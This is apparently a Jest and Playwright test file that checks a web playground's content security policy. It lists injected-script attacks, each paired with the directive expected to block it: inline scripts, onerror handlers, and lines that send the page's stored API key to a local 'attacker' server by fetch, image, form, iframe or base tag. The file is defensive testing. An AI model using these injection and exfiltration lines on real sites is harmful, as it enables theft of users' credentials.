import { afterAll, beforeAll, expect, it } from '@jest/globals';
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser } from 'playwright-core';
import { Embedded } from '../support/embedded.js';
import { launchChromium } from './launch-chromium.mjs';
import { PlaygroundPage } from './playground-page.js';

let service: Embedded;
let browser: Browser;
let tab: PlaygroundPage;
/** Requests to the attacker's host. */
const caught: string[] = [];
const attacker = createServer((request, response) => {
  caught.push(request.url ?? '');
  response.end();
});

beforeAll(async () => {
  await once(attacker.listen(0, '127.0.0.1'), 'listening');
  [service, browser] = await Promise.all([Embedded.start({ workers: 'z-image-nano-turbo' }), launchChromium()]);
  tab = await PlaygroundPage.open(browser, service.summary.url, { key: service.summary.apiKey });
});
afterAll(async () => {
  await browser.close();
  await service.stop();
  attacker.close();
});

/** What somebody would try who got a hold on the page, by the directive that stops it; `key` is the API key, `host` theirs. */
const attacks: [directive: string, script: string][] = [
  ['script-src-elem', `document.body.append(made('script', { text: trusted('steal()') }))`],
  ['script-src-elem', `document.body.append(made('script', { src: trustedUrl(host + 'steal.js') }))`],
  ['script-src-attr', `document.body.setAttribute('onclick', trusted('steal()'))`],
  ['script-src', `new Function(trusted('steal()'))()`],
  ['require-trusted-types-for', `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=steal()>')`],
  ['img-src', `made('img', { src: host + key })`],
  ['connect-src', `void fetch(host, { method: 'POST', body: key }).catch(() => undefined)`],
  ['form-action', `const form = made('form', { action: host }); document.body.append(form); form.submit()`],
  ['base-uri', `document.head.append(made('base', { href: host }))`],
  ['frame-src', `document.body.append(made('iframe', { src: host + key }))`],
];

it.each(attacks)('its content security policy, %s, stops %s', async (directive, script) => {
  const { port } = attacker.address() as AddressInfo;
  const violated = await tab.page.evaluate<string>(`new Promise((resolve) => {
    const host = 'http://127.0.0.1:${port}/';
    const key = sessionStorage['zimage.api-key'];
    const made = (tag, properties) => Object.assign(document.createElement(tag), properties);
    const same = (text) => text;
    // Even what trusted types let through.
    globalThis.rules ??= trustedTypes.createPolicy('attacker', { createScript: same, createScriptURL: same });
    const trusted = (text) => rules.createScript(text);
    const trustedUrl = (text) => rules.createScriptURL(text);
    globalThis.steal = () => resolve('the script ran');
    const told = ({ effectiveDirective }) => resolve(effectiveDirective);
    document.addEventListener('securitypolicyviolation', told, { once: true });
    try {
      ${script};
    } catch {
      // Some are refused by an exception as well.
    }
  })`);
  expect(violated).toBe(directive);
  expect(caught).toEqual([]);
});
